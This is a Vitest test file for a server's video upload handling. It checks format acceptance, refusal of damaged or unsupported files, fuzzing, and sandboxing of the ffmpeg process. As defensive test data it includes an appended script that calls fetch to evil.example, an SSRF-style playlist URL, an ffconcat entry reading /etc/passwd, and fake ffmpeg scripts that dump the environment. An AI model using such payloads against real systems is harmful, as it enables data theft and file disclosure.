import { chmod, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportProof } from '../../../../scripts/proof-report.ts';
import { canary, polyglots, unsupportedFiles, validPictures } from '../../testing/picture-samples.ts';
import {
  cameraVideo,
  decodeAll,
  drawVideo,
  probe,
  rotateUpright,
  videoCanaries,
} from '../../testing/sample-videos.ts';
import { createLog } from '../log.ts';
import type { ReceivedFile } from './media.ts';
import { createPictures, type Pictures } from './pictures.ts';
import { findProgram } from './sandbox.ts';
import { VideoError } from './video-error.ts';
import { cleanVideo, createVideos, type Videos } from './videos.ts';

const log = createLog('silent');
const widths = [160, 480];
let folder: string;
let pictures: Pictures;
let samples: Record<string, Buffer>;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'radiant-videos-'));
  pictures = createPictures({ log });
  const mp4 = drawVideo({ as: 'mp4' });
  samples = {
    'an MP4': mp4,
    'an MP4 of a camera, with all that one adds': cameraVideo(),
    'an MP4 without sound': drawVideo({ as: 'mp4', sound: 'none' }),
    'an MP4 with its index in front': drawVideo({ as: 'mp4', more: ['-movflags', '+faststart'] }),
    'an MP4 in fragments': drawVideo({ as: 'mp4', more: ['-movflags', '+frag_keyframe+empty_moov'] }),
    'a QuickTime of a phone': drawVideo({ as: 'mov', more: ['-timecode', '10:00:00:00'] }),
    'a WebM of VP9 and Opus': drawVideo({ as: 'webm', picture: 'libvpx-vp9', sound: 'libopus' }),
    'a WebM of VP8 and Vorbis, with subtitles': drawVideo({
      as: 'webm',
      picture: 'libvpx',
      sound: 'libvorbis',
      hasSubtitles: true,
    }),
    'a WebM recorded on the go': drawVideo({
      as: 'webm',
      picture: 'libvpx',
      sound: 'libopus',
      more: ['-live', '1'],
    }),
  };
});
afterAll(async () => {
  pictures.stop();
  await rm(folder, { recursive: true, force: true });
});

async function receive(bytes: Buffer): Promise<ReceivedFile> {
  const path = join(await mkdtemp(join(folder, 'upload-')), 'video');
  await writeFile(path, bytes);
  return { path, bytes: bytes.length, sha256: '' };
}

const names = [
  'an MP4',
  'an MP4 of a camera, with all that one adds',
  'an MP4 without sound',
  'an MP4 with its index in front',
  'an MP4 in fragments',
  'a QuickTime of a phone',
  'a WebM of VP9 and Opus',
  'a WebM of VP8 and Vorbis, with subtitles',
  'a WebM recorded on the go',
];
const sample = (name: string) => samples[name] ?? Buffer.alloc(0);
const refusedAs = (file: unknown) => ({ code: 'unsupported_file', fields: { file } });
const refusal = refusedAs(expect.stringMatching(/^video_(unsupported|codec|damaged)$/));

describe.each(['with ffmpeg', 'without ffmpeg'])('a video, %s,', (how) => {
  let videos: Videos;
  const canMakeStills = how === 'with ffmpeg';
  beforeAll(() => {
    videos = createVideos({
      log,
      pictures,
      program: canMakeStills ? (findProgram('ffmpeg') ?? 'ffmpeg') : null,
    });
  });

  it('has a poster only where one can be made', () => {
    expect(videos.canMakeStills).toBe(canMakeStills);
  });

  it.each(names)('is accepted as %s, plays completely, and contains only picture and sound', async (name) => {
    const prepared = await videos.prepare(await receive(sample(name)), widths);
    const stored = await readFile(prepared.path);
    expect(prepared).toMatchObject({
      mime: name.includes('WebM') ? 'video/webm' : 'video/mp4',
      width: 320,
      height: 240,
      bytes: stored.length,
    });
    expect(videoCanaries.filter((word) => stored.includes(word))).toEqual([]);
    const found = probe(stored);
    expect(found.match(/codec_type=\w+/g)?.sort()).toEqual(
      name.includes('without sound') ? ['codec_type=video'] : ['codec_type=audio', 'codec_type=video'],
    );
    expect(decodeAll(stored)).toBe('');
    if (canMakeStills || !name.includes('fragments')) expect(prepared.seconds).toBeCloseTo(2, 0);
    expect(prepared.poster?.sizes.map(({ width }) => width)).toEqual(canMakeStills ? [160, 320] : undefined);
  });

  it('recorded upright reports its displayed size and still plays upright', async () => {
    const prepared = await videos.prepare(await receive(rotateUpright(sample('an MP4'))), widths);
    expect(prepared).toMatchObject({ width: 240, height: 320 });
    expect(probe(await readFile(prepared.path))).toMatch(/rotation=-?90/);
    if (canMakeStills) expect(prepared.poster).toMatchObject({ width: 240, height: 320 });
  });

  it('is refused when it is not a video browsers can play', async () => {
    const refused: Record<string, Buffer> = {
      ...(await unsupportedFiles()),
      ...(await validPictures()),
      'a playlist': Buffer.from('#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:9/secret\n'),
      'a list of files': Buffer.from("ffconcat version 1.0\nfile '/etc/passwd'\n"),
      'sound alone': drawVideo({ as: 'mp4', picture: 'none' }),
      'an MP4 with a picture that few play': drawVideo({ as: 'mp4', picture: 'mpeg4' }),
      'an MP4 with a sound that few play': drawVideo({ as: 'mp4', sound: 'ac3' }),
      'an MP4 of HEVC': replaced(sample('an MP4'), 'avc1', 'hvc1', { from: 'stsd' }),
      'a Matroska that is no WebM': drawVideo({ as: 'mkv', picture: 'libvpx', sound: 'libopus' }),
      'an MP4 of more pixels than a decoder should hold': huge(sample('an MP4')),
      'an MP4 whose samples lie elsewhere': referring(sample('an MP4')),
    };
    for (const [name, bytes] of Object.entries(refused)) {
      const outcome = await videos.prepare(await receive(bytes), widths).catch((error: unknown) => error);
      expect([name, outcome]).toEqual([name, expect.objectContaining(refusal)]);
    }
  });

  it.each([
    ['video_unsupported', () => Buffer.from('<!doctype html>')],
    ['video_unsupported', async () => (await validPictures()).avif],
    ['video_unsupported', () => drawVideo({ as: 'mp4', picture: 'none' })],
    ['video_codec', () => replaced(sample('an MP4'), 'avc1', 'hvc1', { from: 'stsd' })],
    ['video_codec', () => drawVideo({ as: 'mp4', sound: 'ac3' })],
    ['video_damaged', () => sample('an MP4').subarray(0, 9000)],
  ] as const)('is refused with the reason: %s', async (reason, make) => {
    const file = await receive(await make());
    await expect(videos.prepare(file, widths)).rejects.toMatchObject(refusedAs(reason));
  });

  it('truncated anywhere is refused', async () => {
    for (const name of ['an MP4', 'an MP4 with its index in front', 'a WebM of VP9 and Opus']) {
      const whole = sample(name);
      for (const share of [0.01, 0.1, 0.3, 0.6, 0.9, 0.99]) {
        const file = await receive(whole.subarray(0, Math.floor(whole.length * share)));
        const outcome = await videos.prepare(file, widths).catch((error: unknown) => error);
        expect([name, share, outcome]).toEqual([name, share, expect.objectContaining(refusal)]);
      }
    }
  });

  it('loses other hidden data', async () => {
    const html = Buffer.from(`<script>fetch('https://evil.example/${canary}')</script>`);
    const pictures = Object.values(await polyglots()).slice(1, 2);
    for (const behind of [html, Buffer.concat([Buffer.alloc(4), html]), ...pictures]) {
      const file = await receive(Buffer.concat([sample('an MP4'), behind]));
      const { path } = await videos.prepare(file, widths);
      expect((await readFile(path)).includes(canary)).toBe(false);
    }
  });
});

const replaced = (bytes: Buffer, what: string, by: string, { from }: { from: string }) => {
  const changed = Buffer.from(bytes);
  changed.write(by, changed.indexOf(what, changed.indexOf(from)), 'latin1');
  return changed;
};
const huge = (mp4: Buffer) => {
  const changed = Buffer.from(mp4);
  changed.fill(
    0xff,
    changed.indexOf('avc1', changed.indexOf('stsd')) + 28,
    changed.indexOf('avc1', changed.indexOf('stsd')) + 32,
  );
  return changed;
};
const referring = (mp4: Buffer) => {
  const changed = Buffer.from(mp4);
  changed.writeUInt32BE(0, changed.indexOf('url ', changed.indexOf('dref')) + 4);
  return changed;
};

it('has its index in front where ffmpeg is available', async () => {
  const videos = createVideos({ log, pictures });
  const { path } = await videos.prepare(await receive(sample('an MP4')), widths);
  const stored = await readFile(path);
  expect(sample('an MP4').indexOf('moov')).toBeGreaterThan(sample('an MP4').indexOf('mdat'));
  expect(stored.indexOf('moov')).toBeLessThan(stored.indexOf('mdat'));
});

it('that is clean stays unchanged', () => {
  for (const name of names) {
    const once = Buffer.from(cleanVideo(Buffer.from(sample(name))).file);
    expect([name, cleanVideo(Buffer.from(once)).file.equals(once)]).toEqual([name, true]);
  }
});

/** A seeded generator, the same in every run. */
function createDice(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state % below;
  };
}

function mutate(bytes: Buffer, roll: (below: number) => number): Buffer {
  const changed = Buffer.from(bytes);
  const hits = 1 + roll(8);
  for (let hit = 0; hit < hits; hit += 1) {
    // Most of a video is samples; the structure lies at its two ends.
    const span = Math.min(changed.length, 2000);
    const at = roll(2) === 0 ? roll(span) : changed.length - 1 - roll(span);
    const how = roll(4);
    if (how === 0) changed[at] = roll(256);
    else if (how === 1) changed.subarray(at, at + 1 + roll(8)).fill(0xff);
    else if (how === 2) changed.subarray(at, at + 1 + roll(8)).fill(0);
    else changed.copyWithin(at, roll(changed.length), roll(changed.length));
  }
  return roll(5) === 0 ? changed.subarray(0, roll(changed.length)) : changed;
}

it('damaged in any way is parsed or refused without side effects', () => {
  const roll = createDice(20_261_121);
  const small = names.map((name) => sample(name));
  let read = 0;
  for (let round = 0; round < 5000; round += 1) {
    const damaged = mutate(small[round % small.length] ?? Buffer.alloc(0), roll);
    const { length } = damaged;
    try {
      expect(cleanVideo(damaged).file.length).toBeLessThanOrEqual(length);
      read += 1;
    } catch (error) {
      if (!(error instanceof VideoError)) throw new Error(`round ${round}`, { cause: error });
    }
  }
  reportProof({ 'damaged videos': 5_000 });
  // Ensures that enough damaged files were still readable.
  expect(read).toBeGreaterThan(200);
  expect(read).toBeLessThan(4800);
});

it('several damaged but readable ones do not affect later ones', async () => {
  const videos = createVideos({ log, pictures });
  const roll = createDice(7);
  for (let round = 0; round < 24; round += 1) {
    const bytes = mutate(sample(names[round % names.length] ?? ''), roll);
    const outcome = await videos.prepare(await receive(bytes), widths).catch((error: unknown) => error);
    expect(outcome).toEqual(
      expect.toSatisfy((one: object) => 'path' in one || ('code' in one && one.code === 'unsupported_file')),
    );
  }
});

describe('the copying process', () => {
  const script = async (lines: string) => {
    const path = join(await mkdtemp(join(folder, 'program-')), 'ffmpeg');
    await writeFile(path, `#!/bin/sh\n${lines}\n`);
    await chmod(path, 0o755);
    return path;
  };

  it('does not inherit the server’s environment or input', async () => {
    const output = join(folder, 'output');
    const program = await script(`env > ${output}; cat >> ${output}; exit 1`);
    process.env.RADIANT_SECRET = canary;
    try {
      const videos = createVideos({ log, pictures, program });
      await expect(videos.prepare(await receive(sample('an MP4')), widths)).rejects.toMatchObject(refusal);
    } finally {
      delete process.env.RADIANT_SECRET;
    }
    const environment = await readFile(output, 'utf8');
    expect(environment).toContain('PATH=');
    expect(environment).not.toContain(canary);
    expect(environment).not.toContain('DATABASE');
  });

  it('ends with the server', async () => {
    const program = await script('exec sleep 600');
    const videos = createVideos({ log, pictures, program });
    const work = videos.prepare(await receive(sample('an MP4')), widths);
    setTimeout(() => videos.stop(), 200);
    await expect(work).rejects.toMatchObject(refusal);
  });

  it('has a limited output size', async () => {
    const program = await script(
      'exec dd if=/dev/zero bs=65536 "of=$(printf "%s\\n" "$@" | tail -1 | cut -c6-)"',
    );
    const videos = createVideos({ log, pictures, program });
    const file = await receive(sample('an MP4'));
    await expect(videos.prepare(file, widths)).rejects.toMatchObject(refusal);
    expect((await stat(`${file.path}.mp4`)).size).toBeLessThanOrEqual(64 * 1024 * 1024);
  });

  it('tells the eleventh in the queue to retry', async () => {
    const program = await script('sleep 0.2; exit 1');
    const videos = createVideos({ log, pictures, program });
    const files = await Promise.all(Array.from({ length: 11 }, () => receive(sample('an MP4'))));
    const outcomes = await Promise.allSettled(files.map((file) => videos.prepare(file, widths)));
    expect(outcomes.filter(({ status }) => status === 'fulfilled')).toHaveLength(0);
    expect(outcomes.at(-1)).toMatchObject({ reason: { code: 'unavailable' } });
    expect(outcomes.at(-2)).toMatchObject({ reason: refusal });
  });
});
